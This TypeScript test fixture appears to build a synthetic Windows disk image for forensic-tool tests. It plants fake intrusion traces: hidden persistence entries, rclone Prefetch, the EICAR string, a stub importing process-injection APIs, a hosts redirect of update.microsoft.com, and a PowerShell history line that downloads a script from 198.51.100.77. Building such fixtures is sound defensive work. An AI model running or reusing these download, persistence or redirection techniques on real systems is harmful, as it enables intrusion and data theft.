// Files of the examined Windows, by path, streams as `PATH:STREAM`; what programs of this host must write is in windows-image.ts.

import { cfbOf } from '../support/cfb-writer.ts'
import { dword, key, merged, sz, writeHive } from '../support/hive-writer.ts'
import { catalog, trustListOf } from '../support/catalog-writer.ts'
import { compressPrefetch, writePrefetch } from '../support/prefetch-writer.ts'
import { eicar } from '../support/run-haechi.ts'
import { guidBytes, time, u16, u32, u64, wide } from '../support/artefact-fields.ts'
import { smallProgram } from '../support/signed-program.ts'
import { volumeInfo, writeShortcut } from '../support/shortcut-writer.ts'
import { srum, webCache, wmiRepository } from './windows-databases.ts'
import { amcacheHive, classesHive, samHive, softwareHive, systemHive, userHive } from './windows-hives.ts'
import { powershellLog, securityLog, systemLog } from './windows-logs.ts'

const digestOfNothing = Buffer.alloc(32, 0x5a)

/** What malware imports: it writes code into another process and starts it there. */
function injector(): Buffer {
  return smallProgram({
    'KERNEL32.dll': ['OpenProcess', 'VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'],
  })
}

function jumpList(): Buffer {
  const path = 'E:\\plans\\merger.docx'
  const host = Buffer.alloc(16)
  host.write('pc-31')
  const count = Buffer.alloc(4)
  count.writeFloatLE(1)
  const ids = [1, 2, 3, 4].map((index) => guidBytes(`0000000${index}-0000-0000-0000-000000000000`))
  const list = Buffer.concat([
    u32(4, 1, 0, 0),
    u64(0, 0),
    u64(0),
    ...ids,
    host,
    u32(1, 0),
    count,
    time('2026-04-11T02:30:00.1234567Z'),
    u32(-1),
    u32(-1, 4),
    u64(0),
    u16(path.length),
    wide(path),
    u32(0),
  ])
  const link = writeShortcut({
    created: '2026-04-01T00:00:00Z',
    linkInfo: volumeInfo('E:\\plans\\merger.docx', 'VAULT'),
  })
  return Buffer.from(
    cfbOf([
      { name: 'DestList', data: list },
      { name: '1', data: link },
    ]),
  )
}

function prefetch(): Buffer {
  return compressPrefetch(
    writePrefetch({
      version: 30,
      executable: 'RCLONE.EXE',
      hash: 0x1a2b3c4d,
      runCount: 11,
      runs: ['2026-04-11T02:31:00.7654321Z', '2026-04-11T02:29:00Z'],
      files: ['\\VOLUME{01d0}\\TOOLS\\RCLONE.EXE', '\\VOLUME{01d0}\\USERS\\MINA\\SECRETS.XLSX'],
      volume: {
        path: '\\VOLUME{01d0}',
        created: '2026-01-01T00:00:00Z',
        serial: 77,
        directories: ['\\VOLUME{01d0}\\TOOLS'],
      },
    }),
  )
}

const task = `<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
<RegistrationInfo><Date>2026-04-11T02:08:00</Date><Author>PC-31\\mina</Author><URI>\\CacheTask</URI></RegistrationInfo>
<Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>
<Settings><Hidden>true</Hidden></Settings>
<Actions Context="Author"><Exec><Command>C:\\ProgramData\\ctask.exe</Command><Arguments>/silent</Arguments></Exec></Actions></Task>`

const binnedContent = Buffer.from('ledger of the second set of books\r\n')

function binned(): Buffer {
  const path = 'C:\\Users\\mina\\Documents\\ledger.xlsx\0'
  return Buffer.concat([
    u64(2, binnedContent.length),
    time('2026-04-11T02:32:00.5Z'),
    u32(path.length),
    wide(path),
  ])
}

/** A record of version 2 for each change. */
function journal(): Buffer {
  const record = (name: string, at: string, reasons: number, usn: number): Buffer => {
    const size = 8 * Math.ceil((60 + 2 * name.length) / 8)
    const bytes = Buffer.alloc(size)
    const ids = [u32(77), u16(0, 2), u32(5), u16(0, 5)]
    const head = [u32(size), u16(2, 0), ...ids, u64(usn), time(at), u32(reasons, 0, 0x101, 0x20)]
    Buffer.concat([...head, u16(2 * name.length, 60), wide(name)]).copy(bytes)
    return bytes
  }
  return Buffer.concat([
    record('stager.ps1', '2026-04-11T02:33:00.1234567Z', 0x80000100, 4096),
    record('stager.ps1', '2026-04-11T02:34:00.7654321Z', 0x80000200, 4176),
  ])
}

export const picture = Buffer.concat([Buffer.from('ffd8ffe000104a464946', 'hex'), Buffer.alloc(64, 0x33)])

export function thumbnails(): Buffer {
  const name = wide('3f9a7c5511e0b2d4')
  const entry = Buffer.concat([
    Buffer.from('d4b2e011557c9a3f', 'hex'),
    u32(name.length, 2, picture.length, 96, 54, 0),
    u64(1, 2),
    name,
    Buffer.alloc(2),
    picture,
  ])
  return Buffer.concat([
    Buffer.from('CMMM'),
    u32(0x20, 4, 0, 24, 0, 1),
    Buffer.from('CMMM'),
    u32(entry.length + 8),
    entry,
  ])
}

const users = '/Users/mina'
const roaming = `${users}/AppData/Roaming`
const local = `${users}/AppData/Local`

function utf16(text: string): Buffer {
  return Buffer.concat([Buffer.of(0xff, 0xfe), wide(text)])
}

export function windowsFiles(): Readonly<Record<string, Buffer>> {
  const { hive, log } = userHive()
  const { objects, mapping } = wmiRepository()
  const config = '/Windows/System32/config'
  return {
    [`${config}/SOFTWARE`]: softwareHive(),
    [`${config}/SYSTEM`]: systemHive(),
    [`${config}/SAM`]: samHive(),
    [`${config}/DEFAULT`]: writeHive({
      name: 'ROOT',
      subkeys: merged([key('Console', [dword('x', 1), sz('y', 'z')])]),
    }),
    [`${users}/NTUSER.DAT`]: hive,
    [`${users}/ntuser.dat.LOG1`]: log,
    [`${local}/Microsoft/Windows/UsrClass.dat`]: classesHive(),
    '/Windows/AppCompat/Programs/Amcache.hve': amcacheHive(),
    '/Windows/System32/winevt/Logs/Security.evtx': securityLog(),
    '/Windows/System32/winevt/Logs/System.evtx': systemLog(),
    '/Windows/System32/winevt/Logs/Microsoft-Windows-PowerShell%4Operational.evtx': powershellLog(),
    '/Windows/System32/Tasks/CacheTask': utf16(task),
    '/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/Assist.lnk': writeShortcut({
      created: '2026-04-11T02:06:00.1Z',
      linkInfo: volumeInfo('C:\\ProgramData\\assist\\a.exe', 'SYSTEM'),
      texts: [undefined, undefined, undefined, '--hidden'],
    }),
    [`${roaming}/Microsoft/Windows/Recent/passwords.kdbx.lnk`]: writeShortcut({
      created: '2026-04-11T02:07:00.2Z',
      accessed: '2026-04-11T02:07:30Z',
      linkInfo: volumeInfo('E:\\keys\\passwords.kdbx', 'VAULT'),
    }),
    [`${roaming}/Microsoft/Windows/Recent/AutomaticDestinations/a7bd71699cd38d1c.automaticDestinations-ms`]:
      jumpList(),
    '/Windows/Prefetch/RCLONE.EXE-1A2B3C4D.pf': prefetch(),
    '/$Recycle.Bin/S-1-5-21-70-71-72-1003/$I7KQ2ZP.xlsx': binned(),
    '/$Recycle.Bin/S-1-5-21-70-71-72-1003/$R7KQ2ZP.xlsx': binnedContent,
    [`${users}/Downloads/kit.zip`]: Buffer.from('PK\u0005\u0006'.padEnd(22, '\0'), 'latin1'),
    [`${users}/Downloads/kit.zip:Zone.Identifier`]: Buffer.from(
      '[ZoneTransfer]\r\nZoneId=3\r\nReferrerUrl=http://198.51.100.77/\r\nHostUrl=http://198.51.100.77/kit.zip\r\n',
    ),
    [`${users}/Downloads/eicar.com`]: Buffer.from(eicar),
    '/ProgramData/onedrv/sync.exe': injector(),
    '/Windows/System32/CatRoot/{F750E6C3-38EE-11D1-85E5-00C04FC295EE}/oem7.cat': catalog(
      trustListOf([digestOfNothing]),
    ),
    [`${roaming}/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt`]: Buffer.from(
      'Get-Service\r\nInvoke-WebRequest http://198.51.100.77/ps -OutFile C:\\Users\\Public\\p.ps1\r\n',
    ),
    '/Windows/System32/drivers/etc/hosts': Buffer.from(
      '# hosts\r\n127.0.0.1 localhost\r\n203.0.113.66 update.microsoft.com\r\n',
    ),
    '/Windows/System32/sru/SRUDB.dat': srum(),
    [`${local}/Microsoft/Windows/WebCache/WebCacheV01.dat`]: webCache(),
    '/Windows/System32/wbem/Repository/OBJECTS.DATA': objects,
    '/Windows/System32/wbem/Repository/MAPPING1.MAP': mapping,
    [`${local}/Microsoft/Windows/Explorer/thumbcache_96.db`]: thumbnails(),
    '/$Extend/$UsnJrnl:$J': journal(),
  }
}
